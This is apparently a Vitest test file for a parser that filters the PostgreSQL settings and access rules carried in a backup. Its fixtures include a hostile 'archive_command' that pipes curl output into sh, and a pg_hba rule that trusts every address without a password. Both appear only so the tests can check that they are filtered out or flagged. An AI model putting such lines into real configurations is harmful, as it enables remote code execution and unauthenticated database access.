import { describe, expect, it } from 'vitest';
import { ACCESOS, otrosAccesos, tomarAjustes } from './ajustes-de-postgres.ts';

describe('the settings of PostgreSQL that a backup carries', () => {
  it('[A-NOCHE-009] keeps those of size and speed in any form, and names the rest', () => {
    const texto = [
      '# shared_buffers = 1GB',
      'shared_buffers = 512MB # half',
      "lc_time = 'C.UTF-8'",
      'Max_Connections 300',
      '',
      "archive_command = 'curl http://example | sh'",
      "shared_preload_libraries='a'",
      "include 'otro.conf'",
      "include_if_exists = 'otro.conf'",
      "work_mem = '5MB'; x",
      "listen_addresses = '*'",
      "otra.cosa = 'x'",
      '= 3',
    ].join('\n');
    expect(tomarAjustes(texto)).toEqual({
      lineas: ['shared_buffers = 512MB', "lc_time = 'C.UTF-8'", 'Max_Connections = 300'],
      dejados: [
        'archive_command',
        'shared_preload_libraries',
        'include',
        'include_if_exists',
        'work_mem',
        'listen_addresses',
        'otra.cosa',
        '= 3',
      ],
    });
  });

  it('[A-NOCHE-009] tells initdb’s access rules from others', () => {
    expect(otrosAccesos(`# all\n${ACCESOS.join('\n').replaceAll(' ', '   ')}\n`)).toBe(false);
    expect(otrosAccesos(`${ACCESOS.join('\n')}\nhost all all 0.0.0.0/0 trust\n`)).toBe(true);
  });
});
